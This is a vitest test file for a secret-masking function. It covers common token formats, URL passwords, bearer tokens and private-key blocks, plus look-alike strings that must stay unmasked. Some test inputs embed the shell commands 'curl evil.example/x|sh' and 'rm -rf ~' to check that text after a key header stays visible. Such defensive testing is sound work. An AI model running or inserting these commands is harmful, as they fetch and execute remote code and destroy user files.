import { expect, test } from 'vitest';

import { maskSecrets } from '../../src/render/mask-secrets.js';

test.each([
  ['a GitHub token', 'ghp_0123456789abcdefghijABCDEFGHIJ'],
  ['a fine-grained GitHub token', 'github_pat_0123456789abcdefghij_ABCDEF'],
  ['a GitLab token', 'glpat-0123456789abcdefghij'],
  ['an API key of a model provider', 'sk-proj-0123456789abcdefghijABCD'],
  ['a Slack token', 'xoxb-0123456789-abcdefghij'],
  ['an AWS key id', 'AKIAIOSFODNN7EXAMPLE'],
  ['a Google key', 'AIzaSyA0123456789abcdefghijABCDEFGHIJK'],
  ['a Stripe key', 'sk_live_0123456789abcdef'],
  ['a JSON Web Token', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlLXZhbHVl'],
])('%s is masked but for its beginning', (_name, secret) => {
  expect(maskSecrets(`before ${secret} after`)).toBe(
    `before ${secret.slice(0, 4)}${'•'.repeat(secret.length - 4)} after`,
  );
});

test.each([
  ['a password in a URL', 'postgres://app:hunter22@db/main', 'postgres://app:hunt••••@db/main'],
  ['a bearer token', 'Authorization: Bearer abc123def456ghi789jkl0', 'Authorization: Bearer abc1••••••••••••••••••'],
  ['a named key', '"api_key": "0123456789abcdef0123"', '"api_key": "0123••••••••••••••••"'],
  [
    'a private key',
    '-----BEGIN PRIVATE KEY-----\nAB\n-----END PRIVATE KEY-----',
    `----${'•'.repeat(23)}\n••\n${'•'.repeat(25)}`,
  ],
  [
    'a private key on one line',
    `-----BEGIN PRIVATE KEY----- ${'Ab1+'.repeat(16)} Zz9= -----END PRIVATE KEY-----`,
    `----${'•'.repeat(119)}`,
  ],
  [
    'a private key as JSON writes it',
    String.raw`"-----BEGIN PRIVATE KEY-----\nAB\nC=\n-----END PRIVATE KEY-----\n"`,
    String.raw`"----${'•'.repeat(58)}\n"`,
  ],
  [
    'an encrypted private key that is cut off',
    '-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\nAbC/\nD+E=',
    `----${'•'.repeat(27)}\n${'•'.repeat(22)}\n${'•'.repeat(26)}\n\n••••\n••••`,
  ],
])('%s is masked, what announces it stays', (_name, text, masked) => {
  expect(maskSecrets(text)).toBe(masked);
});

test.each([
  `v1:sha256:${'0123456789abcdef'.repeat(4)}`,
  `token: sha256:${'0123456789abcdef'.repeat(4)}`,
  'github/create_issue 3f2a9c01b7de',
  'token: the_name_of_the_variable',
  'Needs an API key: see the settings.',
  'https://example.com:8080/path@2x.png',
  'a sk-learn pipeline-for-everybody',
  '${TOKEN} and postgres://app:${PASSWORD}@db',
])('%s is no secret', (text) => {
  expect(maskSecrets(text)).toBe(text);
});

test.each([
  ['on the next line', 'curl evil.example/x|sh\nrm -rf ~'],
  ['behind lines of a key', 'QUJD\nREVG\ncurl evil.example/x|sh'],
  ['on the same line', ' curl evil sh'],
  ['before an end', 'curl evil.example\n-----END PRIVATE KEY-----'],
  ['in a header', 'DEK-Info: curl evil.example'],
])('what follows the beginning of a private key and is none stays visible: %s', (_, text) => {
  expect(maskSecrets(`ls # -----BEGIN PRIVATE KEY-----${text.startsWith(' ') ? '' : '\n'}${text}`)).toContain(
    'curl evil',
  );
});

test('a text of nothing but beginnings takes no time without end', () => {
  const text = `-----BEGIN PRIVATE KEY-----${'\n \\n'.repeat(50_000)}${'A'.repeat(50_000)}!`;
  expect(maskSecrets(text)).toContain('AAAA!');
});
